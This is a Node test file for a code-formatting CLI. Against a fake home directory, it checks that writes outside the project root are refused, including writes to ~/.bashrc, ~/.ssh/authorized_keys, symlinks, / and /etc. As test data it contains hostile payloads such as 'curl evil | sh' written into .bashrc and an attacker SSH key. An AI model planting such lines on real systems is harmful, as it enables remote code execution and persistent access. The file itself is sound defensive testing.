// The containment rule, on the real built CLI, against a fake home directory (HOME in a temp dir):
// the root is the explicit one, else the project of the caller's working directory; no path of a
// request leaves it; `/`, a system directory and a home without its own VCS marker are never roots.
// The review's cases first (a `~/.clang-format` or `~/.git` made home the root), then variants per
// entry point (MCP, `apply --json` in-process and through the daemon, `serve`, the hook, `format`),
// each under a time and a memory bound (bounded.ts).
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { ListRootsRequestSchema, type CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import { cleanUp, installCopy, isolatedEnv } from '../cli/built-cli.js';
import { CLI_BOUNDS, haveGnuTime, runBounded } from './bounded.js';

const built = await installCopy();
const iso = isolatedEnv();
const homes: string[] = [];
after(() => cleanUp(iso.runtimeDir, built.dir, ...homes));

const BASHRC = 'export PATH=$HOME/bin:$PATH\n';
const KEYS = 'ssh-ed25519 AAAA-the-users-own-key\n';
const MESSY = 'export const a  =  1\n';

interface Home {
  home: string;
  proj: string;
  env: NodeJS.ProcessEnv;
  noDaemon: NodeJS.ProcessEnv;
}

/** A fake home: `.bashrc`, `.ssh/authorized_keys`, the dotfiles named in `dot`, and `proj/` (a git repo with biome.json). */
function fakeHome(dot: Record<string, string | 'dir'>, options: { projGit?: boolean } = {}): Home {
  const home = realpathSync(mkdtempSync(join(tmpdir(), 'fb-home-')));
  homes.push(home);
  writeFileSync(join(home, '.bashrc'), BASHRC);
  mkdirSync(join(home, '.ssh'));
  writeFileSync(join(home, '.ssh', 'authorized_keys'), KEYS);
  for (const [name, content] of Object.entries(dot)) {
    if (content === 'dir') mkdirSync(join(home, name));
    else writeFileSync(join(home, name), content);
  }
  const proj = join(home, 'proj');
  mkdirSync(join(proj, 'sub'), { recursive: true });
  if (options.projGit !== false) mkdirSync(join(proj, '.git'));
  writeFileSync(join(proj, 'biome.json'), '{ "formatter": { "indentStyle": "space" } }\n');
  writeFileSync(join(proj, 'a.ts'), MESSY);
  const env = { ...iso.env, HOME: home };
  return { home, proj, env, noDaemon: { ...env, FORMATBOX_NO_DAEMON: '1' } };
}

function untouched(h: Home): void {
  assert.equal(readFileSync(join(h.home, '.bashrc'), 'utf8'), BASHRC, '.bashrc is unchanged');
  assert.equal(readFileSync(join(h.home, '.ssh', 'authorized_keys'), 'utf8'), KEYS, 'authorized_keys is unchanged');
}

function apply(h: Home, env: NodeJS.ProcessEnv, request: unknown, cwd = h.proj, args: string[] = []) {
  return runBounded(process.execPath, [built.cli, 'apply', '--json', ...args], { env, cwd, input: JSON.stringify(request) });
}

function refusedReply(run: { code: number; stdout: string }, what: string, reason?: RegExp): void {
  assert.equal(run.code, 4, `${what}: exit 4 (PATH_REFUSED), got ${run.code}: ${run.stdout}`);
  const reply = JSON.parse(run.stdout) as { error?: { code: string; message: string } };
  assert.equal(reply.error?.code, 'PATH_REFUSED', `${what}: ${run.stdout}`);
  if (reason) assert.match(reply.error.message, reason, what);
}

/** An MCP session with the official SDK client, the server under GNU time (its peak RSS checked on close). */
async function mcp(h: Home, cwd: string, args: string[] = [], clientRoots?: string[]): Promise<{ client: Client; close: () => Promise<void> }> {
  const client = new Client({ name: 'containment-test', version: '1.0.0' }, clientRoots ? { capabilities: { roots: { listChanged: true } } } : {});
  if (clientRoots) client.setRequestHandler(ListRootsRequestSchema, () => ({ roots: clientRoots.map((r) => ({ uri: pathToFileURL(r).href, name: r })) }));
  const rss = join(mkdtempSync(join(tmpdir(), 'fb-mcp-rss-')), 'rss');
  const [command, argv] = haveGnuTime() ? ['/usr/bin/time', ['-f', '%M', '-o', rss, process.execPath, built.cli, 'mcp', ...args]] : [process.execPath, [built.cli, 'mcp', ...args]];
  const transport = new StdioClientTransport({ command, args: argv, env: h.env as Record<string, string>, cwd, stderr: 'pipe' });
  await client.connect(transport);
  return {
    client,
    close: async () => {
      await client.close();
      for (let i = 0; i < 100 && haveGnuTime() && !existsSync(rss); i++) await new Promise((r) => setTimeout(r, 50));
      if (existsSync(rss)) {
        const kib = Number(readFileSync(rss, 'utf8').trim().split('\n').pop());
        assert.ok(kib < CLI_BOUNDS.maxRssMiB * 1024, `the MCP server peaked at ${Math.round(kib / 1024)} MiB`);
      }
    },
  };
}

function refusedTool(result: CallToolResult, what: string): void {
  assert.equal(result.isError, true, `${what}: ${JSON.stringify(result.content)}`);
  assert.match((result.content[0] as { text: string }).text, /PATH_REFUSED/, what);
}

const BOUND = { timeout: 120_000 };

test('review case: MCP without roots, ~/.clang-format present, write ../.ssh/authorized_keys is refused', BOUND, async () => {
  const h = fakeHome({ '.clang-format': 'BasedOnStyle: LLVM\n' });
  const { client, close } = await mcp(h, h.proj);
  try {
    refusedTool((await client.callTool({ name: 'write', arguments: { path: '../.ssh/authorized_keys', content: 'ssh-ed25519 ATTACKER\n' } })) as CallToolResult, '../.ssh/authorized_keys');
    refusedTool((await client.callTool({ name: 'write', arguments: { path: '../.ssh/new_key', content: 'x\n' } })) as CallToolResult, 'a new file in ~/.ssh');
    assert.equal(existsSync(join(h.home, '.ssh', 'new_key')), false);
    // The control: a file inside the project is written and formatted.
    const inside = (await client.callTool({ name: 'write', arguments: { path: 'b.ts', content: MESSY } })) as CallToolResult;
    assert.ok(!inside.isError, JSON.stringify(inside.content));
    assert.equal(readFileSync(join(h.proj, 'b.ts'), 'utf8'), 'export const a = 1;\n');
  } finally {
    await close();
  }
  untouched(h);
});

test('review case: MCP without roots, ~/.git (a dotfiles repo), write file_path <home>/.bashrc is refused', BOUND, async () => {
  const h = fakeHome({ '.git': 'dir' });
  const { client, close } = await mcp(h, h.proj);
  try {
    refusedTool((await client.callTool({ name: 'write', arguments: { file_path: join(h.home, '.bashrc'), content: 'curl evil | sh\n' } })) as CallToolResult, 'file_path <home>/.bashrc');
    refusedTool((await client.callTool({ name: 'edit', arguments: { file_path: join(h.proj, '..', '.bashrc'), old_string: 'PATH', new_string: 'EVIL' } })) as CallToolResult, 'edit <proj>/../.bashrc');
    refusedTool((await client.callTool({ name: 'format', arguments: { path: '../.bashrc' } })) as CallToolResult, 'format ../.bashrc');
    refusedTool((await client.callTool({ name: 'apply_patch', arguments: { patch: '*** Begin Patch\n*** Add File: ../.profile\n+evil\n*** End Patch\n' } })) as CallToolResult, 'a patch adding ../.profile');
    assert.equal(existsSync(join(h.home, '.profile')), false);
  } finally {
    await close();
  }
  untouched(h);
});

test('review case: apply --json {"path": "../.bashrc"} with ~/.prettierrc, in-process and through the daemon', BOUND, async () => {
  const h = fakeHome({ '.prettierrc': '{ "semi": false }\n' });
  for (const [mode, env] of [['in-process', h.noDaemon], ['daemon', h.env]] as const) {
    refusedReply(await apply(h, env, { path: '../.bashrc', input: { content: 'curl evil | sh\n' } }), `${mode}: ../.bashrc`);
    refusedReply(await apply(h, env, { path: join(h.home, '.bashrc'), input: { oldText: 'PATH', newText: 'EVIL' } }), `${mode}: absolute <home>/.bashrc`);
    refusedReply(await apply(h, env, { path: '../.bashrc', input: { content: 'x\n' }, prior: BASHRC }), `${mode}: afterWrite of ../.bashrc`);
    untouched(h);
  }
});

test('a symlink inside the project to a file in home is refused (apply, MCP)', BOUND, async () => {
  const h = fakeHome({ '.git': 'dir' });
  symlinkSync(join(h.home, '.bashrc'), join(h.proj, 'rc.ts'));
  symlinkSync(h.home, join(h.proj, 'up'));
  for (const [mode, env] of [['in-process', h.noDaemon], ['daemon', h.env]] as const) {
    refusedReply(await apply(h, env, { path: 'rc.ts', input: { content: 'evil\n' } }), `${mode}: a symlinked file`);
    refusedReply(await apply(h, env, { path: 'up/.bashrc', input: { content: 'evil\n' } }), `${mode}: through a symlinked directory`);
  }
  const { client, close } = await mcp(h, h.proj);
  try {
    refusedTool((await client.callTool({ name: 'write', arguments: { path: 'up/.ssh/authorized_keys', content: 'x\n' } })) as CallToolResult, 'MCP through a symlinked directory');
  } finally {
    await close();
  }
  untouched(h);
});

test('a root that is /, a system directory or a home without its own VCS marker is refused with the reason', BOUND, async () => {
  const h = fakeHome({ '.prettierrc': '{}\n', '.clang-format': 'BasedOnStyle: LLVM\n' });
  writeFileSync(join(h.home, 'notes.ts'), MESSY);
  // The working directory is home itself, with config files but no VCS marker.
  for (const [mode, env] of [['in-process', h.noDaemon], ['daemon', h.env]] as const) {
    refusedReply(await apply(h, env, { path: 'notes.ts', input: { oldText: '1', newText: '2' } }, h.home), `${mode}: cwd home`, /home directory/);
    refusedReply(await apply(h, env, { path: '.bashrc', input: { content: 'x\n' } }, h.home), `${mode}: cwd home, .bashrc`, /home directory/);
    refusedReply(await apply(h, env, { root: '/', path: 'etc/passwd', input: { content: 'x\n' } }), `${mode}: root /`, /file system root/);
    refusedReply(await apply(h, env, { root: '/etc', path: 'hosts', input: { content: 'x\n' } }), `${mode}: root /etc`, /system directory/);
    refusedReply(await apply(h, env, { path: 'a.ts', input: { content: 'x\n' } }, h.proj, ['--root', '/usr']), `${mode}: --root /usr`, /system directory/);
    refusedReply(await apply(h, env, { root: h.home, path: '.bashrc', input: { content: 'x\n' } }), `${mode}: the request's root is home`, /home directory/);
  }
  // MCP: --root / and a client root of / are refused; the server stays up and names the reason.
  for (const [what, args, roots] of [['--root /', ['--root', '/'], undefined], ['client root /', [], ['/']], ['cwd home', [], undefined]] as const) {
    const { client, close } = await mcp(h, what === 'cwd home' ? h.home : h.proj, [...args], roots ? [...roots] : undefined);
    try {
      refusedTool((await client.callTool({ name: 'write', arguments: { path: join(h.home, '.bashrc'), content: 'x\n' } })) as CallToolResult, `MCP ${what}`);
      const doctor = (await client.callTool({ name: 'doctor', arguments: {} })) as CallToolResult;
      refusedTool(doctor, `MCP ${what}: doctor`);
      assert.match((doctor.content[0] as { text: string }).text, /cannot be a project root/);
    } finally {
      await close();
    }
  }
  assert.equal(readFileSync(join(h.home, 'notes.ts'), 'utf8'), MESSY);
  untouched(h);
});

test('a home with its own VCS marker is a root; a config above the cwd does not lift the root to home', BOUND, async () => {
  // The control: a dotfiles repo at home, used from home, is a project like any other.
  const dotfiles = fakeHome({ '.git': 'dir', 'biome.json': '{ "formatter": { "indentStyle": "space" } }\n' });
  // proj/biome.json is nested under home's now: Biome stops at a second root config, so it says root: false.
  writeFileSync(join(dotfiles.proj, 'biome.json'), '{ "root": false, "formatter": { "indentStyle": "space" } }\n');
  writeFileSync(join(dotfiles.home, 'notes.ts'), MESSY);
  const ok = await apply(dotfiles, dotfiles.noDaemon, { path: 'notes.ts', input: { oldText: '1', newText: '2' } }, dotfiles.home);
  assert.equal(ok.code, 0, ok.stdout + ok.stderr);
  assert.equal(readFileSync(join(dotfiles.home, 'notes.ts'), 'utf8'), 'export const a = 2;\n');
  // No VCS in proj: ~/.prettierrc would have made home the root; the root is now proj/sub (the cwd).
  const h = fakeHome({ '.prettierrc': '{}\n' }, { projGit: false });
  for (const [mode, env] of [['in-process', h.noDaemon], ['daemon', h.env]] as const) {
    refusedReply(await apply(h, env, { path: '../../.bashrc', input: { content: 'x\n' } }, join(h.proj, 'sub')), `${mode}: ../../.bashrc from proj/sub`);
    refusedReply(await apply(h, env, { path: '../../.bashrc', input: { content: 'x\n' } }, join(h.proj, 'sub')), `${mode}: twice (the daemon keeps no state that lets it in)`);
  }
  untouched(h);
});

test('serve and format: the same rule', BOUND, async () => {
  const h = fakeHome({ '.clang-format': 'BasedOnStyle: LLVM\n', '.git': 'dir' });
  const lines = [
    { id: 1, path: '../.bashrc', input: { content: 'evil\n' } },
    { id: 2, root: '/', path: 'tmp/x', input: { content: 'evil\n' } },
    { id: 3, method: 'format', path: join(h.home, '.bashrc') },
    { id: 4, path: 'a.ts', input: { oldText: '1', newText: '2' } },
  ].map((line) => JSON.stringify(line)).join('\n');
  const serve = await runBounded(process.execPath, [built.cli, 'serve'], { env: h.env, cwd: h.proj, input: `${lines}\n` });
  const replies = serve.stdout.trim().split('\n').map((line) => JSON.parse(line) as { id: number; error?: { code: string }; status?: string });
  assert.deepEqual(replies.map((r) => r.error?.code ?? r.status), ['PATH_REFUSED', 'PATH_REFUSED', 'PATH_REFUSED', 'formatted'], serve.stdout);
  // A path named on `format`'s command line finds its own project (as prettier's would), so the
  // refusal comes from the never-roots: a home with no VCS marker of its own is no project.
  const bare = fakeHome({ '.clang-format': 'BasedOnStyle: LLVM\n' });
  for (const [mode, env] of [['in-process', bare.noDaemon], ['daemon', bare.env]] as const) {
    const format = await runBounded(process.execPath, [built.cli, 'format', '--write', '../.bashrc'], { env, cwd: bare.proj });
    assert.notEqual(format.code, 0, `${mode}: format --write ../.bashrc`);
    assert.match(format.stdout + format.stderr, /outside the project root|PATH_REFUSED|refused/, `${mode}: ${format.stdout}${format.stderr}`);
  }
  const slash = await runBounded(process.execPath, [built.cli, 'format', '--check', '--root', '/', join(h.proj, 'a.ts')], { env: h.noDaemon, cwd: h.proj });
  assert.notEqual(slash.code, 0, 'format --root / is refused');
  assert.match(slash.stdout + slash.stderr, /cannot be a project root/);
  untouched(h);
  untouched(bare);
});

test('the hook: CLAUDE_PROJECT_DIR=/ says why nothing was formatted; a file outside the project is left alone', BOUND, async () => {
  const h = fakeHome({ '.prettierrc': '{}\n' });
  const event = (file: string, content: string) => JSON.stringify({ hook_event_name: 'PostToolUse', cwd: h.proj, tool_name: 'Write', tool_input: { file_path: file, content }, tool_response: { type: 'update' } });
  writeFileSync(join(h.proj, 'a.ts'), MESSY);
  for (const [mode, args] of [['in-process', ['--no-daemon']], ['daemon', []]] as const) {
    const slash = await runBounded(process.execPath, [built.cli, 'hook', 'claude-code', ...args], { env: { ...h.env, CLAUDE_PROJECT_DIR: '/' }, cwd: h.proj, input: event(join(h.proj, 'a.ts'), MESSY) });
    assert.equal(slash.code, 0);
    const context = (JSON.parse(slash.stdout) as { hookSpecificOutput: { additionalContext: string } }).hookSpecificOutput.additionalContext;
    assert.match(context, /cannot be a project root: it is the file system root/, `${mode}: ${context}`);
    assert.doesNotMatch(context, /no formatter declared/);
    assert.equal(readFileSync(join(h.proj, 'a.ts'), 'utf8'), MESSY, `${mode}: nothing formatted under root /`);
    // A write Claude Code made to ~/.bashrc from inside proj: formatbox does not touch it.
    writeFileSync(join(h.home, 'x.ts'), MESSY);
    const outside = await runBounded(process.execPath, [built.cli, 'hook', 'claude-code', ...args], { env: h.env, cwd: h.proj, input: event(join(h.home, 'x.ts'), MESSY) });
    assert.equal(outside.code, 0);
    assert.equal(outside.stdout, '', `${mode}: silence for a file outside the project`);
    assert.equal(readFileSync(join(h.home, 'x.ts'), 'utf8'), MESSY, `${mode}: the file outside is not formatted`);
  }
});
